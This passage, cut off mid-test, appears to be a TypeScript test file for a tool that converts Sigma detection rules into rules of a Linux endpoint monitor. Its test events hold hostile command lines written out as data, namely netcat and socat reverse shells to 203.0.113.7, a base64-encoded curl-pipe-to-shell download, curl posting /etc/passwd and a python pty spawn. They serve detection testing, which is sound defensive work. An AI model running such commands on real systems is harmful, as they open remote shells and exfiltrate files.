import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { checkEvent, type EventAction } from '../../src/common/events/index.js';
import { formatProblem, loadRules, type RuleSet } from '../../src/rules/index.js';
import { CATEGORIES, convertSigma, loadRatio, mappingRows, type SigmaConversion, type SigmaFile, type SigmaReportEntry } from '../../src/rules/sigma/index.js';
import { carriedBy } from '../../src/rules/sigma/mapping.js';
import { base64, base64Offsets, utf16, utf8 } from '../../src/rules/sigma/values.js';
import { projectRoot } from '../helpers/generated-docs.js';
import { exampleWith } from '../helpers/rule-events.js';
import { sigmaFiles } from '../helpers/sigma-files.js';
import { sigmaRules } from '../../src/server/alerts/rule-source.js';

// ----- helpers -----

/** An example event of the schema (the agent's shape), with dotted fields set (undefined deletes), checked against the schema. */
function event(action: EventAction, set: Record<string, unknown> = {}): Record<string, unknown> {
  const e = exampleWith(action, set);
  const check = checkEvent(e);
  assert.ok(check.ok, `test event is not shaped like the agent's: ${JSON.stringify(check.ok ? [] : check.problems)}`);
  return e;
}

/** An exec event for a command line (executable, args, command line and name consistent). */
function exec(commandLine: string, set: Record<string, unknown> = {}): Record<string, unknown> {
  const args = commandLine.split(' ');
  const executable = args[0]!.startsWith('/') ? args[0]! : `/usr/bin/${args[0]!}`;
  return event('exec', { 'process.executable': executable, 'process.name': path.basename(executable).slice(0, 15), 'process.args': args, 'process.args_count': args.length, 'process.command_line': commandLine, ...set });
}

/** A Sigma rule's YAML with the given detection lines (indented under `detection:`). */
function rule(detection: string, { category = 'process_creation', extra = '', id = '5a1b2c3d-0000-4000-8000-000000000001' } = {}): string {
  return `title: Test rule
id: ${id}
status: test
description: A rule of the tests.
logsource:
    product: linux
    category: ${category}
detection:
${detection.replace(/^/gm, '    ')}
level: high
${extra}`;
}

interface Converted extends SigmaConversion {
  readonly ruleSet: RuleSet;
  readonly entry: SigmaReportEntry;
}

function convert(...texts: string[]): Converted {
  const files: SigmaFile[] = texts.map((text, i) => ({ path: `t${i}.yml`, text }));
  const result = convertSigma(files);
  const { ruleSet, problems } = loadRules(result.files);
  assert.deepEqual(problems.filter((p) => p.severity === 'error').map(formatProblem), [], 'the converted files load without errors');
  return { ...result, ruleSet, entry: result.report[0]! };
}

/** Converts one rule that must load, and returns a predicate: does it match an event? */
function loaded(text: string, category?: string): (e: Record<string, unknown>) => boolean {
  const c = convert(category ? text : text);
  assert.equal(c.entry.status, 'loaded', JSON.stringify(c.entry.reasons));
  return (e) => c.ruleSet.match(e).some((m) => m.rule.id === c.entry.hadesId);
}

function unsupported(text: string): SigmaReportEntry {
  const c = convert(text);
  assert.equal(c.entry.status, 'unsupported', `expected unsupported: ${c.files.map((f) => f.text).join('\n')}`);
  assert.equal(c.files.length, 0, 'an unsupported rule is not in the files');
  return c.entry;
}

function codes(entry: SigmaReportEntry): string[] {
  return entry.reasons.map((r) => r.code);
}

// ----- tests -----

describe('sigma: values and modifiers', () => {
  it('compares case-insensitively by default, exactly with cased', () => {
    const m = loaded(rule("selection:\n    Image: '/usr/bin/CURL'\ncondition: selection"));
    assert.ok(m(exec('/usr/bin/curl -s x')));
    assert.ok(!m(exec('/usr/bin/curl2 -s x')));
    const cased = loaded(rule("selection:\n    Image|cased: '/usr/bin/CURL'\ncondition: selection"));
    assert.ok(!cased(exec('/usr/bin/curl -s x')));
    assert.ok(cased(exec('/usr/bin/CURL -s x')));
  });

  it('contains, startswith, endswith; a list is any of its values, all makes it every one', () => {
    const any = loaded(rule("selection:\n    CommandLine|contains:\n        - ' --data '\n        - ' -F '\ncondition: selection"));
    assert.ok(any(exec('curl -F file=@/etc/passwd http://x')));
    assert.ok(any(exec('curl --DATA @x http://x')));
    assert.ok(!any(exec('curl -s http://x')));
    const all = loaded(rule("selection:\n    CommandLine|contains|all:\n        - 's_client'\n        - '-connect'\ncondition: selection"));
    assert.ok(all(exec('openssl s_client -connect 203.0.113.7:443')));
    assert.ok(!all(exec('openssl s_client -quiet')));
    const starts = loaded(rule("selection:\n    CommandLine|startswith: 'chmod 7'\n    Image|endswith: '/chmod'\ncondition: selection"));
    assert.ok(starts(exec('chmod 777 /tmp/x')));
    assert.ok(!starts(exec('chmod 644 /tmp/x')));
  });

  it('reads * and ? as wildcards, and \\* \\? \\\\ as literal characters', () => {
    const glob = loaded(rule("selection:\n    CommandLine: 'curl * http://*/?.sh'\ncondition: selection"));
    assert.ok(glob(exec('curl -s http://203.0.113.7/x.sh')));
    assert.ok(!glob(exec('curl -s http://203.0.113.7/xy.sh')));
    const literal = loaded(rule("selection:\n    CommandLine|contains: 'a\\*b'\ncondition: selection"));
    assert.ok(literal(exec('echo a*b')));
    assert.ok(!literal(exec('echo axxb')));
    const edges = loaded(rule("selection:\n    Image: '*/nc'\ncondition: selection"));
    assert.ok(edges(exec('/bin/nc -l 4444')));
    assert.ok(!edges(exec('/bin/ncat -l 4444')));
    // A [ in a value is a character, not a glob set.
    const bracket = loaded(rule("selection:\n    CommandLine: 'echo [a]*'\ncondition: selection"));
    assert.ok(bracket(exec('echo [a] b')));
    assert.ok(!bracket(exec('echo a b')));
  });

  it('re: case-sensitive unless i, with m and s flags and inline (?i)', () => {
    const re = loaded(rule("selection:\n    CommandLine|re: '\\s-[FTd]\\s'\ncondition: selection"));
    assert.ok(re(exec('curl -F x http://a')));
    assert.ok(!re(exec('curl -f x http://a')));
    const ci = loaded(rule("selection:\n    CommandLine|re|i: '\\s-[FTd]\\s'\ncondition: selection"));
    assert.ok(ci(exec('curl -f x http://a')));
    const inline = loaded(rule("selection:\n    CommandLine|re: '(?i)BASE64 -D'\ncondition: selection"));
    assert.ok(inline(exec('echo x | base64 -d')));
    const c = convert(rule("selection:\n    CommandLine|re|m|s: '^a.b$'\ncondition: selection"));
    assert.match(c.files[0]!.text, /matches "\(\?ms\)\^a\.b\$"/);
  });

  it('cidr, numbers and numeric comparisons on network events', () => {
    const m = loaded(
      rule("selection:\n    DestinationPort|gte: 4000\n    DestinationIp|cidr: '203.0.113.0/24'\ncondition: selection", { category: 'network_connection' }),
    );
    assert.ok(m(event('connect', { 'destination.ip': '203.0.113.7', 'destination.port': 4444 })));
    assert.ok(!m(event('connect', { 'destination.ip': '203.0.113.7', 'destination.port': 80 })));
    assert.ok(!m(event('connect', { 'destination.ip': '198.51.100.7', 'destination.port': 4444 })));
    const port = loaded(rule("selection:\n    DestinationPort:\n        - 22\n        - '4444'\ncondition: selection", { category: 'network_connection' }));
    assert.ok(port(event('connect', { 'destination.port': 4444 })));
    assert.ok(!port(event('connect', { 'destination.port': 443 })));
    // Quoted, 0x115c is text, which no port's number spells.
    assert.deepEqual(codes(unsupported(rule("selection:\n    DestinationPort: '0x115c'\ncondition: selection", { category: 'network_connection' }))), ['HADES_ERR_SIGMA_VALUE']);
  });

  it('network_connection is TCP and UDP over IP, as Sysmon\'s: a unix-socket connect is not one', () => {
    const m = loaded(rule("selection:\n    Image|endswith: '/curl'\nfilter:\n    DestinationIp|cidr: '127.0.0.0/8'\ncondition: selection and not filter", { category: 'network_connection' }));
    assert.ok(m(event('connect', { 'process.executable': '/usr/bin/curl', 'destination.ip': '203.0.113.7' })));
    const docker = event('connect', { 'process.executable': '/usr/bin/curl', source: undefined, destination: { address: '/var/run/docker.sock' }, 'network.transport': 'unix', 'network.type': 'unix' });
    assert.ok(!m(docker), 'curl --unix-socket /var/run/docker.sock has no DestinationIp, and is no network connection to Sigma');
  });

  it('Initiated chooses connect or accept; Protocol is the transport', () => {
    const out = loaded(rule("selection:\n    Initiated: 'true'\n    Protocol: TCP\ncondition: selection", { category: 'network_connection' }));
    assert.ok(out(event('connect')));
    assert.ok(!out(event('accept')));
    assert.ok(!out(event('connect', { 'network.transport': 'udp' })));
    const inbound = loaded(rule("selection:\n    Initiated: 'false'\ncondition: selection", { category: 'network_connection' }));
    assert.ok(inbound(event('accept')));
    assert.ok(!inbound(event('connect')));
  });

  it('exists and null test whether the event has the field', () => {
    const has = loaded(rule("selection:\n    CurrentDirectory|exists: true\ncondition: selection"));
    assert.ok(has(exec('ls')));
    assert.ok(!has(exec('ls', { 'process.working_directory': undefined })));
    const none = loaded(rule("selection:\n    Image|endswith: '/ls'\n    CurrentDirectory: null\ncondition: selection"));
    assert.ok(none(exec('/bin/ls', { 'process.working_directory': undefined })));
    assert.ok(!none(exec('/bin/ls')));
    const notExists = loaded(rule("selection:\n    CurrentDirectory|exists: false\ncondition: selection"));
    assert.ok(notExists(exec('ls', { 'process.working_directory': undefined })));
  });

  it('neq is the negation of the comparison', () => {
    const m = loaded(rule("selection:\n    Image|endswith: '/sudo'\n    User|neq: root\ncondition: selection"));
    assert.ok(m(exec('/usr/bin/sudo id')));
    assert.ok(!m(exec('/usr/bin/sudo id', { 'process.user': { id: '0', name: 'root' } })));
  });

  it('windash: every dash-like character swapped for the others', () => {
    const m = loaded(rule("selection:\n    CommandLine|windash|contains: ' -e '\ncondition: selection"));
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(m(exec(`nc ${dash}e /bin/sh`)), dash);
    assert.ok(!m(exec('nc +e /bin/sh')));
    const e = unsupported(rule("selection:\n    CommandLine|windash|contains: '-a -b -c -d'\ncondition: selection"));
    assert.deepEqual(codes(e), ['HADES_ERR_SIGMA_VALUE']);
  });

  it('base64 and base64offset find a value inside base64 text, UTF-16 first when asked', () => {
    assert.equal(base64(utf8('curl')), 'Y3VybA==');
    assert.equal(base64(utf8('ab')), 'YWI=');
    const plain = loaded(rule("selection:\n    CommandLine|base64|contains: 'curl'\ncondition: selection"));
    assert.ok(plain(exec('echo Y3VybA== | base64 -d')));
    const offset = loaded(rule("selection:\n    CommandLine|base64offset|contains: 'curl http'\ncondition: selection"));
    for (const prefix of ['', 'a', 'ab', 'abc', 'abcd']) {
      const encoded = base64(utf8(`${prefix}curl http://203.0.113.7/x.sh | sh`));
      assert.ok(offset(exec(`echo ${encoded} | base64 -d | sh`)), `prefix of ${prefix.length}`);
    }
    assert.ok(!offset(exec(`echo ${base64(utf8('wget http://x'))} | base64 -d`)));
    // Every variant is a substring of some base64 text that holds the value.
    const variants = base64Offsets(utf8('curl'));
    assert.equal(variants.length, 3);
    const wide = loaded(rule("selection:\n    CommandLine|wide|base64offset|contains: 'cmd'\ncondition: selection"));
    assert.ok(wide(exec(`run ${base64(utf16('x cmd /c', 'le', false))}`)));
    const bare = unsupported(rule("selection:\n    CommandLine|utf16le|contains: 'cmd'\ncondition: selection"));
    assert.deepEqual(codes(bare), ['HADES_ERR_SIGMA_VALUE']);
  });

  it('numbers go to number fields as numbers; text to them is refused', () => {
    const m = loaded(rule("selection:\n    ProcessId: '4242'\n    LogonId: 0\ncondition: selection"));
    assert.ok(m(exec('id', { 'process.pid': 4242, 'hades.process.login_uid': 0 })));
    assert.ok(!m(exec('id', { 'process.pid': 4242, 'hades.process.login_uid': 1000 })));
    assert.deepEqual(codes(unsupported(rule("selection:\n    ProcessId|contains: '42'\ncondition: selection"))), ['HADES_ERR_SIGMA_VALUE']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    ProcessId: 'abc'\ncondition: selection"))), ['HADES_ERR_SIGMA_VALUE']);
    assert.deepEqual(codes(unsupported(rule("selection:\n    Image|gt: 4\ncondition: selection"))), ['HADES_ERR_SIGMA_VALUE']);
  });

  it('compares a plain YAML number on a text field as the rule writes it', () => {
    // YAML reads 1.10 as 1.1, 0x10 as 16 and 1e3 as 1000: the text the rule means is the one written.
    const m = loaded(rule('selection:\n    CommandLine|endswith:\n        - 1.10\n        - 0x10\n        - 1e3\n        - 0777\ncondition: selection'));
    assert.ok(m(exec('node-v1.10')));
    assert.ok(m(exec('poke 0x10')));
    assert.ok(m(exec('sleep 1e3')));
    assert.ok(m(exec('chmod 0777')));
    assert.ok(!m(exec('node-v1.1')));
    assert.ok(!m(exec('poke 16')));
    assert.ok(!m(exec('sleep 1000')));
    assert.ok(!m(exec('chmod 777')));
    // Numbers still go to number fields as numbers, true and false to exists.
    const port = loaded(rule('selection:\n    DestinationPort: 4444\n    DestinationIp|exists: True\ncondition: selection', { category: 'network_connection' }));
    assert.ok(port(event('connect', { 'destination.port': 4444 })));
    assert.ok(!port(event('connect', { 'destination.port': 4445 })));
  });

  it('puts long value lists in a list of the rule file, which matches the same', () => {
    const names = Array.from({ length: 40 }, (_, i) => `pkg-${i}@1.0.${i}`);
    const text = rule(`selection:\n    CommandLine|contains:\n${names.map((n) => `        - '${n}'`).join('\n')}\ncondition: selection`);
    const c = convert(text);
    assert.match(c.files[0]!.text, /^lists:\n {2}sigma_5a1b2c3d_0000_4000_8000_000000000001_1:/m);
    const fires = (e: Record<string, unknown>) => c.ruleSet.match(e).length > 0;
    assert.ok(fires(exec('npm install pkg-39@1.0.39')));
    assert.ok(!fires(exec('npm install pkg-40@1.0.40')));
  });

  it('gives the long lists of rules whose ids differ only in punctuation names of their own', () => {
    const values = (word: string) => Array.from({ length: 20 }, (_, i) => `        - '${word}${i}'`).join('\n');
    const c = convert(
      rule(`selection:\n    CommandLine:\n${values('alpha')}\ncondition: selection`, { id: 'my-rule' }),
      rule(`selection:\n    CommandLine:\n${values('beta')}\ncondition: selection`, { id: 'my_rule' }),
    );
    assert.deepEqual(c.report.map((e) => [e.id, e.status]), [['my-rule', 'loaded'], ['my_rule', 'loaded']]);
    assert.deepEqual(c.ruleSet.match(exec('alpha3')).map((m) => m.rule.id), ['my-rule']);
    assert.deepEqual(c.ruleSet.match(exec('beta3')).map((m) => m.rule.id), ['my_rule']);
  });

  it('ParentCommandLine is the parent\'s command line, with every modifier', () => {
    const parent = (line: string) => exec('/usr/bin/whoami', { 'process.parent.command_line': line, 'process.parent.args': line.split(' ') });
    const contains = loaded(rule("selection:\n    ParentCommandLine|contains: 'next dev'\ncondition: selection"));
    assert.ok(contains(parent('node /app/node_modules/.bin/next dev -p 3000')));
    assert.ok(!contains(parent('node /app/node_modules/.bin/next build')));
    const ends = loaded(rule("selection:\n    ParentCommandLine|endswith: '/update-shells'\ncondition: selection"));
    assert.ok(ends(parent('/bin/sh /usr/sbin/update-shells')));
    assert.ok(!ends(parent('/bin/sh /usr/sbin/update-shells --verbose')));
    const equals = loaded(rule("selection:\n    ParentCommandLine: 'bash -i'\ncondition: selection"));
    assert.ok(equals(parent('bash -i')));
    assert.ok(!equals(parent('bash -i -x')));
    const wildcard = loaded(rule("selection:\n    ParentCommandLine: 'python3 -c *pty*'\ncondition: selection"));
    assert.ok(wildcard(parent('python3 -c import pty; pty.spawn("/bin/sh")')));
    assert.ok(!wildcard(parent('python3 x.py')));
  });

  it('refuses the modifiers it cannot express, with the modifier named', () => {
    for (const mod of ['fieldref', 'expand', 'hour', 'frobnicate']) {
      const e = unsupported(rule(`selection:\n    CommandLine|${mod}: 'x'\ncondition: selection`));
      assert.deepEqual(e.reasons.map((r) => [r.code, r.detail]), [['HADES_ERR_SIGMA_MODIFIER', mod]], mod);
    }    // A typing slip of a modifier Sigma defines is named; farther ones are not guessed at.
    const slip = unsupported(rule("selection:\n    CommandLine|containz: 'x'\ncondition: selection"));
    assert.match(slip.reasons[0]!.message, /modifier 'containz', which Sigma does not define; did you mean 'contains'\?$/);
    assert.doesNotMatch(unsupported(rule("selection:\n    CommandLine|frobnicate: 'x'\ncondition: selection")).reasons[0]!.message, /did you mean/);
  });
});

describe('sigma: conditions', () => {
  const detection = `selection_a:
    Image|endswith: '/a'
selection_b:
    Image|endswith: '/b'
filter_x:
    CommandLine|contains: 'x'
_hidden:
    CommandLine|contains: 'never'
`;
  const run = (condition: string) => loaded(rule(`${detection}condition: ${condition}`));
  const a = exec('/bin/a');
  const b = exec('/bin/b');
  const ax = exec('/bin/a x');
  const c = exec('/bin/c');

  it('1 of, all of, them (without _ identifiers), not and parentheses', () => {
    const oneOf = run('1 of selection_* and not 1 of filter_*');
    assert.deepEqual([oneOf(a), oneOf(b), oneOf(ax), oneOf(c)], [true, true, false, false]);
    const allOf = run('all of selection_*');
    assert.ok(!allOf(a) && !allOf(b));
    const them = run('1 of them');
    assert.deepEqual([them(a), them(b), them(exec('/bin/c x')), them(exec('/bin/c never'))], [true, true, true, false]);
    const allThem = run('all of them');
    assert.ok(!allThem(ax));
    const parens = run('selection_a and (filter_x or selection_b)');
    assert.deepEqual([parens(a), parens(ax)], [false, true]);
  });

  it('and binds tighter than or, not tighter than and', () => {
    const m = run('selection_b or selection_a and filter_x');
    assert.deepEqual([m(a), m(ax), m(b)], [false, true, true]);
    const n = run('not filter_x and selection_a');
    assert.deepEqual([n(a), n(ax)], [true, false]);
  });

  it('N of expands to combinations; a list of conditions is any of them', () => {
    const two = run('2 of selection_*');
    assert.ok(!two(a) && !two(b));
    const twoOfThree = loaded(rule(`${detection}condition: 2 of them`));
    assert.ok(twoOfThree(ax));
    assert.ok(!twoOfThree(a));
    const list = loaded(rule(`${detection}condition:\n    - selection_a\n    - selection_b`));
    assert.deepEqual([list(a), list(b), list(c)], [true, true, false]);
  });

  it('refuses aggregations and near, and reports what is malformed', () => {
    assert.deepEqual(codes(unsupported(rule(`${detection}condition: selection_a | count() by User > 5`))), ['HADES_ERR_SIGMA_CONDITION']);
    assert.deepEqual(codes(unsupported(rule(`${detection}condition: selection_a near selection_b`))), ['HADES_ERR_SIGMA_CONDITION']);
    // `?` is no wildcard of an identifier pattern: 'selection_?' names no identifier.
    for (const bad of ['selection_c', 'selection_a and', '(selection_a', 'selection_a selection_b', '1 of nothing_*', '3 of selection_*', 'and', '1 of selection_?']) {
      assert.deepEqual(codes(unsupported(rule(`${detection}condition: ${bad}`))), ['HADES_ERR_SIGMA_INVALID'], bad);
    }
  });
});

describe('sigma: log sources and fields', () => {
  it('maps every field to one that every action of its category carries, and docs/sigma.md lists them', () => {
    const doc = readFileSync(path.join(projectRoot, 'docs/sigma.md'), 'utf8');
    for (const spec of CATEGORIES) {
      for (const [name, m] of Object.entries(spec.fields)) assert.ok(carriedBy(spec, m.target), `${spec.category}.${name} -> ${m.target}`);
      for (const row of mappingRows(spec)) assert.ok(doc.includes(row), `docs/sigma.md lacks the row ${row} of ${spec.category}`);
    }
  });

  it('file_event is a file created or renamed into place; file_delete a deletion', () => {
    const created = loaded(rule("selection:\n    TargetFilename|startswith: '/etc/cron.d/'\ncondition: selection", { category: 'file_event' }));
    assert.ok(created(event('file_create', { 'file.path': '/etc/cron.d/evil', 'file.name': 'evil', 'file.directory': '/etc/cron.d' })));
    assert.ok(created(event('file_rename', { 'file.path': '/etc/cron.d/evil', 'hades.file.old_path': '/tmp/evil' })));
    assert.ok(!created(event('file_delete', { 'file.path': '/etc/cron.d/evil' })));
    assert.ok(!created(event('file_create', { 'file.path': '/tmp/evil' })));
    const deleted = loaded(rule("selection:\n    TargetFilename: '/var/log/wtmp'\ncondition: selection", { category: 'file_delete' }));
    assert.ok(deleted(event('file_delete', { 'file.path': '/var/log/wtmp' })));
    assert.ok(!deleted(event('file_create', { 'file.path': '/var/log/wtmp' })));
  });

  it('takes ECS field names the category carries as they are', () => {
    const m = loaded(rule("selection:\n    process.args: '-e'\n    process.name: nc\ncondition: selection"));
    assert.ok(m(exec('nc -e /bin/sh 203.0.113.7 4444')));
    assert.ok(!m(exec('nc -l 4444')));
  });

  it('refuses fields Hades events do not have, naming them', () => {
    const e = unsupported(rule("selection:\n    OriginalFileName: 'curl'\n    ParentUser: root\ncondition: selection"));
    assert.deepEqual(
      e.reasons.map((r) => [r.code, r.detail]),
      [
        ['HADES_ERR_SIGMA_FIELD', 'OriginalFileName'],
        ['HADES_ERR_SIGMA_FIELD', 'ParentUser'],
      ],
    );
    // The working directory is only known at exec: file events do not carry it.
    // Sysmon fields without an equivalent get no suggestion (LogonGuid is not LogonId); a typing
    // slip of a mapped field does.
    assert.ok(e.reasons.every((r) => !r.message.includes('did you mean')));
    assert.doesNotMatch(unsupported(rule("selection:\n    LogonGuid: 'x'\ncondition: selection")).reasons[0]!.message, /did you mean/);
    assert.match(unsupported(rule("selection:\n    CommandLien|contains: 'x'\ncondition: selection")).reasons[0]!.message, /; did you mean 'CommandLine'\?$/);
    assert.match(unsupported(rule("selection:\n    DestinationPrt: 22\ncondition: selection", { category: 'network_connection' })).reasons[0]!.message, /did you mean 'DestinationPort'/);
    const file = unsupported(rule("selection:\n    CurrentDirectory: '/tmp'\ncondition: selection", { category: 'file_event' }));
    assert.deepEqual(codes(file), ['HADES_ERR_SIGMA_FIELD']);
  });

  it('refuses log sources without Hades events, saying which', () => {
    const cases: [string, string][] = [
      ['    product: windows\n    category: process_creation', 'product: windows'],
      ['    product: linux\n    service: auditd', 'service: auditd'],
      ['    product: linux\n    category: file_change', 'category: file_change'],
      ['    product: linux', 'no category'],
    ];
    for (const [logsource, detail] of cases) {
      const text = `title: T\nlogsource:\n${logsource}\ndetection:\n    selection:\n        Image: x\n    condition: selection\n`;
      const e = unsupported(text);
      assert.deepEqual(
        e.reasons.map((r) => [r.code, r.detail]),
        [['HADES_ERR_SIGMA_LOGSOURCE', detail]],
      );
    }
    assert.match(unsupported(rule("selection:\n    Image: x\ncondition: selection", { category: 'file_change' })).reasons[0]!.message, /creation time/);
  });

  it("converts auditd rules that only match EXECVE records onto exec events, a0 as process.args[0]", () => {
    const audit = (detection: string) => rule(detection).replace('    category: process_creation', '    service: auditd');
    const chattr = loaded(audit("selection:\n    type: 'EXECVE'\n    a0|contains: 'chattr'\n    a1: '-i'\ncondition: selection"));
    assert.ok(chattr(exec('chattr -i /etc/passwd')));
    assert.ok(chattr(exec('/usr/bin/chattr -I /etc/passwd')), 'values compare case-insensitively, as in Sigma');
    assert.ok(!chattr(exec('chattr +i /etc/passwd')));
    assert.ok(!chattr(exec('lsattr -i')));
    assert.ok(!chattr(event('connect', { 'process.args': ['chattr', '-i'] })), 'exec events only');
    // A filter under 'not' cannot make the rule match another record: the rule still needs EXECVE.
    const filtered = loaded(audit("selection:\n    type: execve\n    a0: tcpdump\nfilter:\n    a1: '--version'\ncondition: selection and not filter"));
    assert.ok(filtered(exec('tcpdump -i eth0')));
    assert.ok(!filtered(exec('tcpdump --version')));
    const quantified = loaded(audit("selection_a:\n    type: EXECVE\n    a0: nc\nselection_b:\n    - type: EXECVE\n      a0: ncat\n    - type: execve\n      a0: socat\ncondition: 1 of selection_*"));
    assert.ok(quantified(exec('socat - TCP:203.0.113.7:4444')) && quantified(exec('nc -l 4444')) && !quantified(exec('ls')));
    const counted = loaded(audit("selection:\n    type: EXECVE\n    argc|gte: 3\n    a0: nc\ncondition: selection"));
    assert.ok(counted(exec('nc -l 4444')) && !counted(exec('nc -h')));
    const absent = loaded(audit("selection:\n    type: EXECVE\n    a0: whoami\n    a1: null\ncondition: selection"));
    assert.ok(absent(exec('whoami')) && !absent(exec('whoami --help')));
    // Rules that could match SYSCALL, PATH or other records are refused, never narrowed to exec events.
    const refusedAs = (detection: string) => unsupported(audit(detection)).reasons.map((r) => [r.code, r.detail]);
    const logsource = [['HADES_ERR_SIGMA_LOGSOURCE', 'service: auditd']];
    assert.deepEqual(refusedAs("selection:\n    a1: '--cpu-priority'\ncondition: selection"), logsource, 'no record type');
    assert.deepEqual(refusedAs("selection_1:\n    type: EXECVE\n    a0: arecord\nselection_2:\n    type: SYSCALL\n    exe: /usr/bin/arecord\ncondition: 1 of selection_*"), logsource);
    assert.deepEqual(refusedAs("selection:\n    type: EXECVE\n    a0: whoami\ncondition: not selection"), logsource);
    assert.deepEqual(refusedAs("selection:\n    type:\n        - EXECVE\n        - SYSCALL\n    a0: whoami\ncondition: selection"), logsource);
    assert.deepEqual(refusedAs("selection:\n    type|contains: EXEC\n    a0: whoami\ncondition: selection"), logsource, 'a modifier on type');
    assert.deepEqual(refusedAs("selection:\n    - type: EXECVE\n      a0: whoami\n    - a0: id\ncondition: selection"), logsource, 'one mapping of the list without type');
    assert.match(unsupported(audit("selection:\n    a0: x\ncondition: selection")).reasons[0]!.message, /other than EXECVE/);
    // Within EXECVE rules, the fields of other records have no equivalent.
    assert.deepEqual(refusedAs("selection:\n    type: EXECVE\n    exe: /usr/bin/whoami\ncondition: selection"), [['HADES_ERR_SIGMA_FIELD', 'exe']]);
    assert.deepEqual(refusedAs("selection:\n    type: EXECVE\n    a64: x\ncondition: selection"), [['HADES_ERR_SIGMA_FIELD', 'a64']]);
    // What is not valid is reported as such, not as a log source problem.
    assert.deepEqual(codes(unsupported(audit("selection:\n    type: EXECVE\ncondition: selection and other"))), ['HADES_ERR_SIGMA_INVALID']);
  });

  it('refuses keyword searches', () => {
    assert.deepEqual(codes(unsupported(rule("keywords:\n    - 'rm -rf'\n    - 'shred'\ncondition: keywords"))), ['HADES_ERR_SIGMA_KEYWORDS']);
    assert.deepEqual(codes(unsupported(rule("keywords:\n    '|all':\n        - 'a'\n        - 'b'\ncondition: keywords"))), ['HADES_ERR_SIGMA_KEYWORDS']);
  });

  it('matches DestinationHostname on the DNS question for the name, and says so', () => {
    const c = convert(rule("selection:\n    DestinationHostname|endswith: '.ngrok.io'\n    Initiated: 'true'\ncondition: selection", { category: 'network_connection' }));
    assert.equal(c.entry.status, 'loaded');
    assert.ok(c.entry.notes.some((n) => n.code === 'HADES_ERR_SIGMA_ADAPTED' && /DNS question/.test(n.message)));
    const dns = event('dns_query', { 'dns.question': { name: 'abc.eu.ngrok.io', type: 'A', class: 'IN' } });
    assert.equal(c.ruleSet.match(dns).length, 1);
    assert.equal(c.ruleSet.match(event('dns_query')).length, 0);
    assert.equal(c.ruleSet.match(event('connect')).length, 0);
    const mixed = unsupported(rule("selection:\n    DestinationHostname: 'x.example'\n    DestinationPort: 443\ncondition: selection", { category: 'network_connection' }));
    assert.deepEqual(mixed.reasons.map((r) => [r.code, r.detail]), [['HADES_ERR_SIGMA_FIELD', 'DestinationHostname']]);
  });

  it('refuses the DNS question for a rule that also matches connections without the host name it tests', () => {
    // Sigma: curl connecting anywhere but the corporate hosts, a bare address included; a DNS
    // question would miss the connections to an address, which ask no name.
    for (const detection of [
      "selection:\n    Image|endswith: '/curl'\nfilter:\n    DestinationHostname|endswith: '.corp.example'\ncondition: selection and not filter",
      "selection:\n    Image|endswith: '/curl'\n    DestinationHostname: null\ncondition: selection",
      "selection:\n    Image|endswith: '/curl'\nname:\n    DestinationHostname|endswith: '.ngrok.io'\ncondition: selection or name",
    ]) {
      const e = unsupported(rule(detection, { category: 'network_connection' }));
      assert.deepEqual(e.reasons.map((r) => [r.code, r.detail]), [['HADES_ERR_SIGMA_FIELD', 'DestinationHostname']], detection);
      assert.deepEqual(e.notes, [], detection);
    }
    const required = convert(rule("selection:\n    DestinationHostname|endswith: '.ngrok.io'\nfilter:\n    Image|endswith: '/ngrok'\ncondition: selection and not filter", { category: 'network_connection' }));
    assert.equal(required.entry.status, 'loaded');
  });
});

describe('sigma: rule metadata', () => {
  it('keeps the Sigma id, maps level to severity, keeps tags Hades accepts and says which it dropped', () => {
    const c = convert(rule("selection:\n    Image: x\ncondition: selection", { extra: 'tags:\n    - attack.execution\n    - attack.t1059.004\n    - attack.privilege-escalation\n    - cve.2021-4034\n    - attack.exectuion\nfalsepositives:\n    - Admins\n    - Unknown\n' }));
    const info = c.ruleSet.rules[0]!;
    assert.equal(info.id, '5a1b2c3d-0000-4000-8000-000000000001');
    assert.equal(info.severity, 'high');
    assert.deepEqual(info.tags, ['attack.execution', 'attack.t1059.004', 'attack.privilege-escalation', 'cve.2021-4034']);
    assert.deepEqual(info.actions, ['exec'], 'indexed by action');
    assert.match(info.description, /A rule of the tests\.\n\nFalse positives: Admins; Unknown\./);
    assert.deepEqual(c.entry.notes.map((n) => [n.code, n.detail]), [['HADES_ERR_SIGMA_TAG', 'attack.exectuion']]);
    assert.match(c.entry.notes[0]!.message, /attack\.execution/);
  });

  it('informational is info; no level is medium, with a note; deprecated loads disabled', () => {
    const info = convert(rule("selection:\n    Image: x\ncondition: selection").replace('level: high', 'level: informational'));
    assert.equal(info.ruleSet.rules[0]!.severity, 'info');
    const none = convert(rule("selection:\n    Image: x\ncondition: selection").replace('level: high', ''));
    assert.equal(none.ruleSet.rules[0]!.severity, 'medium');
    assert.ok(none.entry.notes.some((n) => n.detail === 'level'));
    const deprecated = convert(rule("selection:\n    Image: x\ncondition: selection").replace('status: test', 'status: deprecated'));
    assert.equal(deprecated.ruleSet.rules[0]!.enabled, false);
    assert.deepEqual(codes(unsupported(rule("selection:\n    Image: x\ncondition: selection").replace('status: test', 'status: unsupported'))), ['HADES_ERR_SIGMA_STATUS']);
  });

  it('makes an id from the file when the rule has none, and refuses a second rule with the same id', () => {
    const noId = convertSigma([{ path: 'dir/my_rule.yml', text: rule("selection:\n    Image: x\ncondition: selection").replace(/^id: .*\n/m, '') }]);
    assert.equal(noId.report[0]!.hadesId, 'sigma-my_rule');
    const twice = convert(rule("selection:\n    Image: x\ncondition: selection"), rule("selection:\n    Image: y\ncondition: selection"));
    assert.deepEqual(twice.report.map((e) => e.status), ['loaded', 'unsupported']);
    assert.deepEqual(codes(twice.report[1]!), ['HADES_ERR_SIGMA_DUPLICATE']);
  });

  it('reports a rule the Hades compiler refuses with its problem, and keeps the others of the file', () => {
    const text = `${rule("selection:\n    CommandLine|re: 'a(?=b)'\ncondition: selection")}---\n${rule("selection:\n    Image: x\ncondition: selection", { id: '5a1b2c3d-0000-4000-8000-000000000002' })}`;
    const c = convert(text);
    assert.deepEqual(c.report.map((e) => e.status), ['unsupported', 'loaded']);
    assert.deepEqual(codes(c.report[0]!), ['HADES_ERR_RULE_REGEX_TOO_EXPENSIVE']);
    assert.match(c.report[0]!.reasons[0]!.message, /look-around/);
    const protocol = unsupported(rule("selection:\n    Protocol: icmp\ncondition: selection", { category: 'network_connection' }));
